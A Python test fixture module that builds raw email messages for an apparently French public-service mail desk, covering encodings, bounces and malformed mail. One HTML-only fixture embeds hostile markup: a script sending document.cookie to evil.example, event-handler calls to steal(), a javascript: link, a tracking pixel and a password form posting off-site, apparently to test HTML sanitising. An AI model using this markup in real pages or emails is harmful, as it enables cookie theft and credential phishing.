"""Raw test emails, built byte for byte (the oddities are the point) or with the stdlib."""

from email.message import EmailMessage
from email.utils import format_datetime

from tests.timeutil import paris

SENT = paris(2026, 11, 30, 9, 15)

QUOTED_PRINTABLE_LATIN1 = (
    b"From: =?iso-8859-1?q?Ren=E9e_Dupr=E9?= <Renee.Dupre@Example.org>\r\n"
    b"To: guichet@pfs.test\r\n"
    b"Subject: =?iso-8859-1?q?Attestation_de_paiement_=E0_r=E9=E9diter?=\r\n"
    b"Message-ID: <qp-1@Example.ORG>\r\n"
    b"Date: Mon, 30 Nov 2026 09:15:00 +0100\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=iso-8859-1\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"Bonjour, pourriez-vous m'envoyer une attestation de paiement pour d=E9cembre ? Ma=\r\n"
    b" demande est urgente. Merci, Ren=E9e.\r\n"
)

HTML_ONLY = (
    b"From: Claire <claire@example.org>\r\n"
    b"To: guichet@pfs.test\r\n"
    b"Subject: Mon dossier\r\n"
    b"Message-ID: <html-1@example.org>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n"
    b"\r\n"
    b"<html><head><style>p{display:none}</style><script>alert('head')</script></head>"
    b'<body onload="steal()"><p onclick="steal()" style="color:red">Bonjour, '
    b"<b>mon allocation</b> n'est pas arriv\xc3\xa9e.</p>"
    b"<script>document.location='https://evil.example/'+document.cookie</script>"
    b'<img src="https://tracker.example/pixel.gif" onerror="steal()">'
    b'<a href="javascript:steal()">cliquez</a> <a href="https://www.caf.fr">caf.fr</a>'
    b'<iframe src="https://evil.example/"></iframe><form action="https://evil.example/">'
    b'<input name="pw"></form></body></html>\r\n'
)


def message(
    *,
    message_id: str | None = "<m-1@example.org>",
    sender: str = "Jean Martin <jean.martin@example.org>",
    subject: str = "Question sur mon dossier",
    body: str = "Bonjour, j'ai une question.",
    headers: dict[str, str] | None = None,
    attachments: tuple[tuple[str, str, bytes], ...] = (),
) -> bytes:
    """A well-formed email (stdlib), CRLF line ends; `attachments` are (name, type, bytes)."""
    mail = EmailMessage()
    mail["From"] = sender
    mail["To"] = "guichet@pfs.test"
    mail["Subject"] = subject
    mail["Date"] = format_datetime(SENT)
    if message_id is not None:
        mail["Message-ID"] = message_id
    for name, value in (headers or {}).items():
        mail[name] = value
    mail.set_content(body)
    for filename, content_type, payload in attachments:
        maintype, subtype = content_type.split("/")
        mail.add_attachment(payload, maintype=maintype, subtype=subtype, filename=filename)
    return mail.as_bytes(policy=mail.policy.clone(linesep="\r\n"))


def reply_to(original_id: str, *, message_id: str, references: str = "", body="Merci.") -> bytes:
    return message(
        message_id=message_id,
        subject="Re: Question sur mon dossier",
        body=body,
        headers={"In-Reply-To": original_id, "References": references or original_id},
    )


BOUNCE = (
    b"From: Mail Delivery System <MAILER-DAEMON@mx.example.org>\r\n"
    b"To: guichet@pfs.test\r\n"
    b"Subject: Undelivered Mail Returned to Sender\r\n"
    b"Message-ID: <bounce-1@mx.example.org>\r\n"
    b"Auto-Submitted: auto-replied\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/report; report-type=delivery-status; boundary="B1"\r\n'
    b"\r\n"
    b"--B1\r\n"
    b"Content-Type: text/plain; charset=us-ascii\r\n"
    b"\r\n"
    b"This is the mail system. Your message could not be delivered.\r\n"
    b"--B1\r\n"
    b"Content-Type: message/delivery-status\r\n"
    b"\r\n"
    b"Reporting-MTA: dns; mx.example.org\r\n"
    b"\r\n"
    b"Final-Recipient: rfc822; nobody@example.org\r\n"
    b"Action: failed\r\n"
    b"Status: 5.1.1\r\n"
    b"--B1\r\n"
    b"Content-Type: text/rfc822-headers\r\n"
    b"\r\n"
    b"Message-ID: <our-answer@pfs.test>\r\n"
    b"--B1--\r\n"
)

# Not an email: no header at all.
NO_HEADER = b"ceci n'est pas un courriel\r\nmais un fichier texte egare\r\n"
# A multipart body whose boundary never occurs: its parts cannot be separated.
BROKEN_MULTIPART = (
    b"From: x@example.org\r\n"
    b"Subject: casse\r\n"
    b"Message-ID: <broken-1@example.org>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="ABSENT"\r\n'
    b"\r\n"
    b"du texte sans aucune frontiere\r\n"
)
NO_SENDER = b"Subject: sans expediteur\r\nMessage-ID: <nosender@example.org>\r\n\r\ntexte\r\n"
